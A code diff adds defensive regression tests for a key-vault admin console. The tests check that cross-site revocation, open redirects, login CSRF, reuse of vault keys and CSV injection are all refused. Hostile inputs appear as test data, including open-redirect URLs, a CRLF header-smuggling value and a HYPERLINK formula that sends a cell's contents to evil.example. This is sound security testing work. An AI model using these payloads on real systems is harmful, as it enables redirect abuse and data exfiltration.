@@ -3,7 +3,9 @@ signing in): each test is one attack, through a real Keybrake on loopback, and a
 
 from __future__ import annotations
 
+import csv
 import html
+import io
 import re
 from collections.abc import Iterator
 from pathlib import Path
@@ -13,7 +15,7 @@ import httpx
 import pytest
 
 from tests.console.test_sessions import csrf_of, signed_in
-from tests.harness import KeybrakeThread
+from tests.harness import ADMIN_TOKEN, KeybrakeThread
 from tests.stripe_sdk import client
 
 
@@ -80,3 +82,85 @@ def test_a_run_id_cannot_make_a_run_link_point_elsewhere(ckb: KeybrakeThread) ->
         assert resolved and all(p.startswith("/console/runs/") for p in resolved), links
         timeline = c.get(links[0])
         assert timeline.status_code == 200 and run in html.unescape(timeline.text)
+
+
+# ---- attacks that are refused (regression tests) ----------------------------------------------
+
+
+def _active(kb: KeybrakeThread, key_id: str) -> bool:
+    return kb.key(key_id)["status"] == "active"
+
+
+def test_cross_site_and_tokenless_revocations_change_nothing(ckb: KeybrakeThread) -> None:
+    """A hostile page's forms, fetches and top-level links cannot revoke: another Origin, the
+    `null` Origin of a sandboxed frame, a JSON or multipart body, the token in the query string,
+    a GET on the POST route, a method override: each refused, the key still active."""
+    key = ckb.issue({}, label="victim")
+    path = f"/console/keys/{key['id']}/revoke"
+    with signed_in(ckb) as c:
+        csrf = csrf_of(c)
+        form = {"csrf_token": csrf, "confirm": "yes"}
+        assert c.post(path, data=form, headers={"origin": "http://evil.example"}).status_code == 403
+        assert c.post(path, data=form, headers={"origin": "null"}).status_code == 403
+        assert c.post(path, json=form).status_code == 403
+        assert c.post(path, files={"x": ("a", b"b")}, data=form).status_code == 403
+        assert c.post(path, params=form, data={"confirm": "yes"}).status_code == 403
+        assert c.get(path, params=form).status_code == 200  # the confirmation page only
+        assert c.request("PUT", path, data=form).status_code == 405
+        assert c.post(path + "?_method=POST", data={"confirm": "yes", "_method": "POST"}).status_code == 403
+        assert _active(ckb, key["id"])
+        assert c.post(path, data=form).status_code == 303  # the same form from the console itself revokes
+        assert not _active(ckb, key["id"])
+
+
+@pytest.mark.parametrize(
+    "nxt",
+    ["https://evil.example/", "//evil.example/x", "/\\evil.example", "/console//evil.example", "/console\\@evil",
+     "javascript:alert(1)", "/console/\r\nSet-Cookie: x=1", "/v1/keys", " /console"],
+)  # fmt: skip
+def test_sign_in_never_sends_the_browser_to_another_site(ckb: KeybrakeThread, nxt: str) -> None:
+    with httpx.Client(base_url=ckb.admin_url) as c:
+        r = c.post("/console/sign-in", data={"token": ADMIN_TOKEN, "next": nxt})
+        assert r.status_code == 303 and r.headers["location"] == "/console", r.headers
+
+
+def test_a_self_refreshing_part_never_redirects_to_another_site(ckb: KeybrakeThread) -> None:
+    """htmx's HX-Current-URL names where to come back after sign-in: another site's is dropped."""
+    r = httpx.get(f"{ckb.admin_url}/console/approvals/pending",
+                  headers={"hx-request": "true", "hx-current-url": "https://evil.example//console"})  # fmt: skip
+    target = r.headers.get("hx-redirect", "")
+    assert target.startswith("/console/sign-in") and "evil" not in target, r.headers
+    key = ckb.issue({})
+    r = httpx.get(f"{ckb.admin_url}/console/keys/{key['id']}/tail",
+                  headers={"hx-request": "true", "hx-current-url": "http://evil.example/console/x"})  # fmt: skip
+    assert "evil" not in r.headers.get("hx-redirect", "x-missing") and key["id"] not in r.text
+
+
+def test_sign_in_from_another_site_opens_no_session(ckb: KeybrakeThread) -> None:
+    """Login CSRF: another site posting its own token into the operator's browser is refused."""
+    r = httpx.post(f"{ckb.admin_url}/console/sign-in", data={"token": ADMIN_TOKEN},
+                   headers={"origin": "http://evil.example"})  # fmt: skip
+    assert r.status_code == 403 and "set-cookie" not in r.headers
+
+
+def test_a_vault_key_opens_no_console_page(ckb: KeybrakeThread) -> None:
+    """An agent's vault key, as a bearer token or as the session cookie, gets the sign-in page."""
+    key = ckb.issue({})
+    for headers in ({"authorization": f"Bearer {key['key']}"}, {"cookie": f"keybrake_session={key['key']}"}):
+        r = httpx.get(f"{ckb.admin_url}/console/keys", headers=headers)
+        assert r.status_code == 303 and r.headers["location"].startswith("/console/sign-in"), r.headers
+    r = httpx.post(f"{ckb.admin_url}/console/sign-in", data={"token": key["key"]})
+    assert r.status_code == 401 and key["key"] not in r.text and "set-cookie" not in r.headers
+
+
+def test_agent_text_in_the_export_opens_as_text_in_a_spreadsheet(ckb: KeybrakeThread) -> None:
+    """CSV injection: an Idempotency-Key the agent chose starting with `=` is written with a `'`."""
+    key = ckb.issue({})
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+    client(ckb, key).v1.customers.create({"email": "a@example.com"}, options={"idempotency_key": evil})
+    with signed_in(ckb) as c:
+        r = c.get("/console/audit/export", params={"key_id": key["id"], "format": "csv"})
+        assert r.status_code == 200
+        cells = next(csv.DictReader(io.StringIO(r.text)))
+        assert cells["idempotency_key"] == "'" + evil
+        assert r.headers["content-disposition"] == 'attachment; filename="keybrake-audit.csv"'
